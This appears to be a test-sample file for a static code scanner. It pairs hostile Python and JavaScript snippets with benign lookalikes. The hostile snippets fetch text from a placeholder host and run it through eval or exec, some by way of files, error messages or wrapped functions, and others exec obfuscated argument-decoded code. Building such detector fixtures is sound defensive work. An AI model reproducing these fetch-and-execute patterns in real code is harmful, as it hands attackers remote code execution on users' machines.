"""What well-known packages do that only looks like a chain, each beside the chain it looks like."""

from inspection.rules.sample import Sample, js, py

_DESK = (
    "class Desk {\n  constructor(options) { this.options = options; }\n  async open() {\n"
    "    this.news = await (await fetch('https://a.invalid')).text();\n    return run(this.%s);\n  }\n}\n"
    "const run = (told) => eval(told.script);\nmodule.exports = Desk;\n"
)
_BOARD = (
    "import requests\nclass Board:\n    def __init__(self, rules):\n        self.rules = rules\n"
    "    def open(self):\n        self.news = requests.get('https://a.invalid').text\n        eval(self.%s)\n"
)
_NAMED = (
    "import functools, requests\ndef named(page):\n    @functools.wraps(page)\n    def run(code):\n"
    "        exec(code)\n    return run\n"
)
_LOAD = "def load(path):\n    with open(path) as f:\n        exec(f.read())\n"
_RUN = (
    "const fs = require('fs'), vm = require('vm');\n"
    "module.exports.run = (path) => vm.runInNewContext(fs.readFileSync(path, 'utf8'));\n"
)
_ASKED = "const asked = fetch('https://a.invalid').then(r => r.json());\n"
_SERVES = {
    "app.js": "const { serve } = require('./serve');\nconst path = process.argv[2];\nserve(path);\nrequire(path);\n",
    "serve.js": "const made = require('fs');\nmodule.exports.serve = async (options) => {\n  const out = made.%s;\n"
    "  out.end(await (await fetch('https://a.invalid')).text());\n};\n",
}

HOSTILE: dict[str, dict[str, Sample]] = {
    "decoded_code": {
        "letters by their numbers, joined": py(
            "import sys\ndef letter(n):\n    return chr(int(n))\nexec(''.join(letter(n) for n in sys.argv))\n",
            "review",
            4,
        ),
        "letters of a text, moved": py(
            "import sys\nname = sys.argv[1]\neval(''.join(chr(b ^ 7) for b in name.encode()))\n", "review", 3
        ),
        "letters of a text that stands there": py(
            "name = 'print(1)'\neval(''.join(chr(b) for b in name.encode()))\n", "review", 2
        ),
    },
    "remote_code": {
        "a member of an object that came from a server": js(_DESK % "news", line=4),
        "the same member in Python": py(_BOARD % "news", line=7),
        "a file of code that came from a server, which another source runs": Sample(
            {
                "app.py": "import requests\nfrom load import load\n"
                "open('a.txt', 'w').write(requests.get('https://a.invalid').text)\nload('a.txt')\n",
                "load.py": _LOAD,
            },
            "block",
            ("load.py", 3),
        ),
        "the same, saved by a third source": Sample(
            {
                "app.py": "from load import load\nfrom get import saved\nload(saved('a.txt'))\n",
                "get.py": "from urllib.request import urlretrieve\ndef saved(path):\n"
                "    urlretrieve('https://a.invalid', path)\n    return path\n",
                "load.py": _LOAD,
            },
            "block",
            ("load.py", 3),
        ),
        "the same in JavaScript": Sample(
            {
                "app.js": "const fs = require('fs'), { run } = require('./run');\n"
                "fetch('https://a.invalid').then(r => r.text()).then(told => {\n"
                "  fs.writeFileSync('a.txt', told);\n  run('a.txt');\n});\n",
                "run.js": _RUN,
            },
            "block",
            ("run.js", 2),
        ),
        "an answer is written where the caller says": Sample(
            {**_SERVES, "serve.js": _SERVES["serve.js"] % "createWriteStream(options)"}, "block", ("app.js", 4)
        ),
        "what a function makes of an answer": js(_ASKED + "asked.then(told => told.code).then(code => eval(code));\n"),
        "the error of an answer, behind two functions that give nothing of it": js(
            _ASKED + "asked.then(told => 1).finally(() => 2).catch(e => eval(e.message));\n"
        ),
        "the same, awaited": js(
            _ASKED + "async function go() {\n  try { await asked.then(told => 1); } catch (e) { eval(e.message); }\n}\n"
            "go();\n",
            line=3,
        ),
        "the same, by the second function": js(
            _ASKED + "asked.then(told => 1).then(one => 2, e => eval(e.message));\n"
        ),
        "a function that is named after another": py(
            _NAMED + "named(print)(requests.get('https://a.invalid').text)\n", line=5
        ),
        "a function that gets another's name by a call": py(
            "import functools, requests\ndef run(code):\n    exec(code)\n"
            "functools.wraps(print)(run)(requests.get('https://a.invalid').text)\n",
            line=3,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "decoded_code": {
        "one letter by its number, among the names of an expression": {
            "app.py": "import sys\nnames = {}\nfor n in sys.argv:\n    names[n] = chr(int(n))\n"
            "eval(names['x'], {}, names)\n"
        },
        "letters of a text, each as it was": {
            "app.py": "import sys\nname = sys.argv[1]\n"
            "eval(''.join(chr(b) for b in name.encode('ascii', 'backslashreplace')))\n"
        },
    },
    "remote_code": {
        "another member than the one that came from a server": {"app.js": _DESK % "options"},
        "another member in Python": {"app.py": _BOARD % "rules"},
        "a server names one of the program's own files, which another source runs": {
            "app.py": "import requests\nfrom load import load\n"
            "load('parts/' + requests.get('https://a.invalid').json()['name'])\n",
            "load.py": _LOAD,
        },
        "the same in JavaScript": {
            "app.js": "const { run } = require('./run');\n"
            "fetch('https://a.invalid').then(r => r.json()).then(told => run(`parts/${told.name}.js`));\n",
            "run.js": _RUN,
        },
        "an answer is given on by what is made of what the caller says": {
            **_SERVES,
            "serve.js": _SERVES["serve.js"] % "encode('a', options)",
        },
        "whether an answer is something": {
            "app.js": _ASKED + "asked.then(told => told.version === '1').then(same => eval(`run(${same})`));\n"
        },
        "whether an answer is something, in Python": {
            "app.py": "import requests\nsame = requests.get('https://a.invalid').text == '1'\neval(f'run({same})')\n"
        },
        "one of two words, as an answer is": {
            "app.js": _ASKED + "asked.then(told => (told.ok ? 'a()' : 'b()')).then(eval);\n"
        },
        "a function that is named after what a server said": {
            "app.py": _NAMED + "named(requests.get('https://a.invalid'))('1+1')\n"
        },
    },
}
